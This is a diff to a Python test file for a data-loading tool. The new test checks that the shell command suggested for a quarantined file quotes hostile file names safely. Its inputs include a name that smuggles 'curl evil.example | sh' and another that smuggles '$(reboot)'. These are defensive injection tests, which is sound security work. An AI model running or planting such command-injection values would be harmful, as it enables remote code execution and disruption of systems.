@@ -70,7 +70,7 @@ def test_no_notice_holds_a_value_of_a_row() -> None:
     [
         (kinds.vendor_refused("braze", "401", 3), kinds.vendor_takes("braze")),
         (kinds.feed_late("crm", NOW, None), kinds.feed_on_time("crm", NOW)),
-        (kinds.file_quarantined("crm", "a.csv", "not_csv", "no header"), kinds.file_loaded("crm", "a.csv", 5)),
+        (kinds.file_quarantined("crm", "a.csv", "no header"), kinds.file_loaded("crm", "a.csv", 5)),
     ],
 )
 def test_what_can_go_wrong_can_come_right(bad: Change, good: Change) -> None:
@@ -84,7 +84,21 @@ def test_what_can_go_wrong_can_come_right(bad: Change, good: Change) -> None:
 
 def test_names_from_outside_are_escaped_and_cut() -> None:
     """A file's name and a vendor's sentence come from others."""
-    change = kinds.file_quarantined("crm", "<!here>.csv", "x", "<a>" * 5000)
+    change = kinds.file_quarantined("crm", "<!here>.csv", "<a>" * 5000)
     text = change.notice.row()["text"]
     assert "<" not in text
     assert len(text) <= 3_500
+
+
+@pytest.mark.parametrize(
+    ("file", "command"),
+    [
+        ("crm/2026/a.csv", "rowferry load a.csv --feed crm"),
+        ("crm/my file.csv", "rowferry load 'my file.csv' --feed crm"),
+        ("crm/a.csv; curl evil.example | sh", "rowferry load 'a.csv; curl evil.example | sh' --feed crm"),
+        ("$(reboot)", "rowferry load '$(reboot)' --feed crm"),
+    ],
+)
+def test_the_command_for_a_file_runs_nothing_else(file: str, command: str) -> None:
+    """Whoever may drop a file chooses its name, and somebody pastes the command into a shell."""
+    assert kinds.file_quarantined("crm", file, "no header").notice.fix == command
